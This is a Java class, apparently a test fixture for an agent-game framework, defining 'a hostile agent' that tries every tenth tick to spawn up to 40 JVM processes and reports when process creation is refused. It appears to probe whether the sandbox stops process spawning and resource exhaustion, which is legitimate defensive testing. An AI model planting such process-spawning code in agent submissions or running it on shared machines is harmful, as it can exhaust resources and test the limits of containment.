import blastlab.world.CharacterEntity;
import blastlab.world.SensedWorld;
import java.io.IOException;

/** A hostile agent. */
public class Agent extends CharacterEntity {
  @Override
  public void act(SensedWorld world) {
    if (world.time() % 10 != 0) {
      return;
    }
    String java = System.getProperty("java.home") + "/bin/java";
    int started = 0;
    for (int i = 0; i < 40; i++) {
      try {
        new ProcessBuilder(java, "-Xmx16m", "-cp", "/nowhere", "Nothing").start();
        started++;
      } catch (IOException e) {
        System.out.println("refused after " + started);
        return;
      }
    }
  }
}
